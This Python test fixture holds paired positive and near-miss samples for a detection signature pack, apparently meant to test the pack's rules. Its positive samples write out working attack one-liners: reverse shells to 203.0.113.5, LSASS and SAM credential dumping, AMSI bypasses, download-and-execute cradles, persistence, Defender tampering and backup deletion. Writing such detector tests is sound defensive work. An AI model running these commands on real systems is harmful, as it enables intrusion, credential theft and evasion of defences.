"""Positive and negative samples for every rule of the signature pack.

Each sample names the rule it was written for and the exact set of rule ids the whole pack
must report on it. Negative samples are near misses: the benign admin command that looks
most like the attack (enabling Defender, installing a certificate with certutil, the
official Chocolatey installer), so a rule that is too loose fails here first.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class SignatureSample:
    rule: str
    positive: bool
    text: str
    matches: frozenset[str]
    encoding: str = "utf-8"

    @property
    def data(self) -> bytes:
        return self.text.encode(self.encoding)


def pos(rule: str, text: str, *also: str, encoding: str = "utf-8") -> SignatureSample:
    return SignatureSample(rule, True, text, frozenset({rule, *also}), encoding)


def neg(rule: str, text: str, *matches: str) -> SignatureSample:
    return SignatureSample(rule, False, text, frozenset(matches))


SAMPLES: tuple[SignatureSample, ...] = (
    # miners
    pos("yara.miner.stratum_url", "./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFF -p x"),
    pos("yara.miner.stratum_url", "start xmrig.exe -o stratum+ssl://xmr.example:443", encoding="utf-16-le"),
    neg("yara.miner.stratum_url", "curl -fsSL https://pool.ntp.org/zone/europe # time servers"),
    pos("yara.miner.xmrig_config",
        '{ "donate-level": 1, "cpu": true, "pools": [ { "url": "pool.example:3333", "user": "w" } ] }'),
    neg("yara.miner.xmrig_config", '{ "pools": [ { "name": "web", "members": ["10.0.0.4"] } ], "donate": false }'),
    pos("yara.miner.command_line", "nohup ./kthreaddk -B --donate-level 1 --cpu-max-threads-hint=50 &"),
    neg("yara.miner.command_line", "nohup ./app-server --threads 4 --max-memory 2g &"),
    pos("yara.miner.kill_competitors", "pkill -f kdevtmpfsi; pkill -f kinsing; rm -rf /tmp/kdevtmpfsi"),
    neg("yara.miner.kill_competitors", "pkill -f gunicorn; systemctl restart app"),
    # credential access
    pos("yara.credential_access.lsass_comsvcs_minidump",
        r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Users\Public\l.dmp full"),
    pos("yara.credential_access.lsass_comsvcs_minidump",
        r"rundll32 comsvcs.dll #24 624 C:\temp\x.dmp full", encoding="utf-16-le"),
    neg("yara.credential_access.lsass_comsvcs_minidump", r"regsvr32 /s C:\Windows\System32\comsvcs.dll"),
    pos("yara.credential_access.procdump_lsass", "procdump64.exe -accepteula -ma lsass.exe C:\\temp\\ls.dmp"),
    neg("yara.credential_access.procdump_lsass", "procdump64.exe -accepteula -ma w3wp.exe C:\\dumps\\w3wp.dmp"),
    pos("yara.credential_access.sam_hive_save", r"reg save HKLM\SAM C:\Windows\Temp\s.hiv /y"),
    neg("yara.credential_access.sam_hive_save", r"reg export HKLM\SOFTWARE\Contoso C:\backup\contoso.reg /y"),
    pos("yara.credential_access.azure_cli_token_cache", "tar czf /tmp/t.tgz /root/.azure/accessTokens.json"),
    neg("yara.credential_access.azure_cli_token_cache", "az login --identity && az account show"),
    # reverse shells
    pos("yara.reverse_shell.bash_dev_tcp", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"),
    neg("yara.reverse_shell.bash_dev_tcp", 'until timeout 1 bash -c "</dev/tcp/db/5432"; do sleep 2; done'),
    pos("yara.reverse_shell.powershell_tcpclient",
        "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.5',443);$s = $c.GetStream();"
        "while(($i = $s.Read($b,0,$b.Length)) -ne 0){ $o = (iex $d 2>&1 | Out-String) }"),
    neg("yara.reverse_shell.powershell_tcpclient",
        "$c = New-Object System.Net.Sockets.TcpClient; $c.Connect('db01', 1433); $c.Connected; $c.Close()"),
    pos("yara.reverse_shell.netcat_exec", "nc -lvnp 4444 -e /bin/bash"),
    pos("yara.reverse_shell.netcat_exec", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 443 >/tmp/f"),
    neg("yara.reverse_shell.netcat_exec", "nc -zv db01 5432 && echo database reachable"),
    pos("yara.reverse_shell.python_socket",
        "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.5\",9001));"
        "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'"),
    neg("yara.reverse_shell.python_socket", "python3 -c 'import socket; s=socket.socket(); s.connect((\"db\",5432))'"),
    # AMSI and logging
    pos("yara.amsi_logging.amsi_utils_bypass",
        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static')"
        ".SetValue($null,$true)"),
    pos("yara.amsi_logging.amsi_utils_bypass", "$a='AmsiUtils'", encoding="utf-16-le"),
    neg("yara.amsi_logging.amsi_utils_bypass", "Get-MpComputerStatus | Select AMServiceEnabled, AntivirusEnabled"),
    pos("yara.amsi_logging.amsi_scanbuffer_patch",
        '$p = [Win32]::GetProcAddress($h, "AmsiScanBuffer"); [Win32]::VirtualProtect($p, 5, 0x40, [ref]0)'),
    neg("yara.amsi_logging.amsi_scanbuffer_patch", "# AmsiScanBuffer is documented at learn.microsoft.com"),
    pos("yara.amsi_logging.etw_provider_disabled",
        "[Ref].Assembly.GetType('System.Management.Automation.Tracing.PSEtwLogProvider').GetField('etwProvider')"),
    neg("yara.amsi_logging.etw_provider_disabled", "wevtutil gl Microsoft-Windows-PowerShell/Operational"),
    # impact
    pos("yara.impact.boot_recovery_disabled", "bcdedit /set {default} recoveryenabled No"),
    neg("yara.impact.boot_recovery_disabled", "bcdedit /set {current} hypervisorlaunchtype auto"),
    pos("yara.impact.backup_catalog_deleted", "wbadmin delete catalog -quiet"),
    neg("yara.impact.backup_catalog_deleted", "wbadmin start backup -backupTarget:E: -include:C: -quiet"),
    pos("yara.impact.ransom_note", "All your files have been encrypted. Send 1 BTC to get the key."),
    neg("yara.impact.ransom_note", "Backups are encrypted at rest with customer-managed keys."),
    # download and execute
    pos("yara.download_execute.certutil_urlcache", "certutil.exe -urlcache -split -f http://203.0.113.5/a.exe a.exe"),
    neg("yara.download_execute.certutil_urlcache", r'certutil -addstore -f Root "C:\certs\contoso-root.cer"'),
    pos("yara.download_execute.regsvr32_squiblydoo", "regsvr32 /s /n /u /i:http://203.0.113.5/f.sct scrobj.dll"),
    neg("yara.download_execute.regsvr32_squiblydoo", r"regsvr32 /s C:\Program Files\Contoso\shellext.dll"),
    pos("yara.download_execute.mshta_remote", "mshta http://203.0.113.5/update.hta"),
    neg("yara.download_execute.mshta_remote", r"mshta C:\Program Files\Contoso\setup.hta"),
    pos("yara.download_execute.powershell_cradle",
        "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')"),
    pos("yara.download_execute.powershell_cradle",
        "iex (New-Object System.Net.WebClient).DownloadString('https://files.example/s.ps1')", encoding="utf-16-le"),
    neg("yara.download_execute.powershell_cradle",
        "iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))"),
    # persistence
    pos("yara.persistence.wmi_event_subscription",
        "Set-WmiInstance -Class __EventFilter -Arguments $f; Set-WmiInstance -Class CommandLineEventConsumer -Arguments $c"),
    neg("yara.persistence.wmi_event_subscription", "Get-CimInstance -ClassName Win32_Service | Where State -eq Running"),
    pos("yara.persistence.accessibility_debugger",
        r'reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" '
        r"/v Debugger /t REG_SZ /d cmd.exe /f"),
    neg("yara.persistence.accessibility_debugger",
        r'reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\w3wp.exe" '
        r"/v MitigationOptions /t REG_QWORD /d 0x100 /f"),
    pos("yara.persistence.ld_so_preload", 'echo "/usr/local/lib/libsys.so" > /etc/ld.so.preload'),
    neg("yara.persistence.ld_so_preload", "cat /etc/ld.so.conf.d/*.conf && ldconfig"),
    # defence tampering
    pos("yara.defence_tampering.defender_realtime_disabled", "Set-MpPreference -DisableRealtimeMonitoring $true"),
    neg("yara.defence_tampering.defender_realtime_disabled", "Set-MpPreference -DisableRealtimeMonitoring $false"),
    pos("yara.defence_tampering.defender_antispyware_policy",
        r'reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f'),
    neg("yara.defence_tampering.defender_antispyware_policy",
        r'reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 0 /f'),
    # Azure
    pos("yara.azure.runcommand_download_cleanup",
        r"Remove-Item -Recurse -Force C:\Packages\Plugins\Microsoft.CPlat.Core.RunCommandWindows\1.1.15\Downloads\*"),
    neg("yara.azure.runcommand_download_cleanup",
        r"Get-ChildItem C:\Packages\Plugins\Microsoft.CPlat.Core.RunCommandWindows -Recurse | Measure-Object"),
    pos("yara.azure.imds_portproxy",
        "netsh interface portproxy add v4tov4 listenport=8080 connectport=80 connectaddress=169.254.169.254"),
    neg("yara.azure.imds_portproxy",
        "netsh interface portproxy add v4tov4 listenport=8443 connectport=443 connectaddress=10.0.0.5"),
    # remote access
    pos("yara.remote_access.anydesk_unattended", r"echo Pass123 | C:\ProgramData\AnyDesk\AnyDesk.exe --set-password"),
    neg("yara.remote_access.anydesk_unattended", "# AnyDesk is not allowed on servers; see policy SEC-12"),
    pos("yara.remote_access.ngrok_tunnel", "nohup ngrok tcp 22 >/dev/null 2>&1 &"),
    neg("yara.remote_access.ngrok_tunnel", "echo 'ngrok is blocked by the proxy'"),
    pos("yara.remote_access.chisel_reverse", "chisel client 203.0.113.5:8000 R:socks"),
    neg("yara.remote_access.chisel_reverse", "chisel server --port 8000 --reverse  # lab only"),
)
